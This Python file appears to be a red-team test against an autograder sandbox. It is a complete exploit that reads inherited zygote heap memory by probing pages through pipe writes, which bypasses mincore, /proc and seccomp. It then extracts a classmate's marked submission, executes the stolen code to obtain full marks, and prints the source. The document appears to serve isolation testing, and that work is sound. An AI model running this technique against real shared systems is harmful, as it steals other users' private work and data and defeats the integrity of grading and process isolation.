"""Attack: read the inherited zygote heap for a classmate's source without mincore or /proc (each page is probed by write()-ing it into a pipe: EFAULT means unmapped), then run the stolen code: 20/20 and the classmate's marker in this report. Expected: wins wherever the zygote ever held another job (no fork-first), even with mincore blocked by seccomp."""

import contextlib
import ctypes
import json
import mmap
import os
import re

PAGE = mmap.PAGESIZE
MARK = re.compile(b"CLASS" + b"MATE-MARKER-[0-9a-f]{32}")  # built at run time: this file is not the hit
FOUND: list[str] = []


def _page(libc: ctypes.CDLL, w: int, r: int, address: int) -> bytes | None:
    """The page at ``address`` if it is mapped and readable, else None; never faults this process."""
    if libc.write(w, ctypes.c_void_p(address), ctypes.c_size_t(PAGE)) != PAGE:
        return None
    return os.read(r, PAGE)


def _heap() -> bytes:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.sbrk.restype = ctypes.c_void_p
    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    libc.write.restype = ctypes.c_ssize_t
    r, w = os.pipe()
    top = (libc.sbrk(0) // PAGE) * PAGE
    pages: list[bytes] = []
    address = top - PAGE
    while top - address < (768 << 20):
        page = _page(libc, w, r, address)
        if page is None:
            break
        pages.append(page)
        address -= PAGE
    return b"".join(reversed(pages))


TEXT = re.compile(rb"[\t\n\x20-\x7e\x80-\xff]+")


def _candidates(memory: bytes, match: re.Match[bytes]) -> list[str]:
    """The source around a marker: as a JSON string (the job frame) or as raw text (a decoded str)."""
    out = []
    start = memory.rfind(b'.py": "', 0, match.start())
    if start >= 0:
        end = memory.find(b'"', match.end())
        while end > 0 and memory[end - 1 : end] == b"\\":
            end = memory.find(b'"', end + 1)
        with contextlib.suppress(ValueError):
            out.append(json.loads(memory[start + 6 : end + 1].decode("ascii")))
    low = match.start()
    while low > 0 and TEXT.fullmatch(memory[low - 1 : low]):
        low -= 1
    high = match.end()
    while high < len(memory) and TEXT.fullmatch(memory[high : high + 1]):
        high += 1
    out.append(memory[low:high].decode("utf-8", "ignore"))
    return out


def _wide(memory: bytes) -> list[str]:
    """Copies held as a decoded str with non-ASCII text (2 or 4 bytes a character)."""
    out = []
    for codec, width in (("utf-32-le", 4), ("utf-16-le", 2)):
        needle = ("CLASS" + "MATE-MARKER-").encode(codec)
        at = memory.find(needle)
        while at >= 0:
            low = at
            while low >= width and memory[low - width : low] != b"\0" * width:
                low -= width
            high = at
            while high < len(memory) and memory[high : high + width] != b"\0" * width:
                high += width
            out.append(memory[low:high].decode(codec, "ignore"))
            at = memory.find(needle, at + 1)
    return out


def _steal() -> None:
    memory = _heap()
    everything = [c for m in MARK.finditer(memory) for c in _candidates(memory, m)] + _wide(memory)
    for source in sorted(everything, key=len, reverse=True):
        FOUND.append(source)
        try:
            exec(compile(source, "classmate", "exec"), globals())  # the classmate's functions become ours
            return
        except Exception:  # noqa: BLE001 - a fragment: try the next copy
            continue


_steal()
if FOUND:
    print("STOLEN:", FOUND[0][:4000])


def _nothing(*args: object) -> object:
    raise NotImplementedError("nothing found: " + (FOUND[0][:1500] if FOUND else ""))


if "backward" not in globals():
    sigmoid = forward = loss = backward = train_step = _nothing
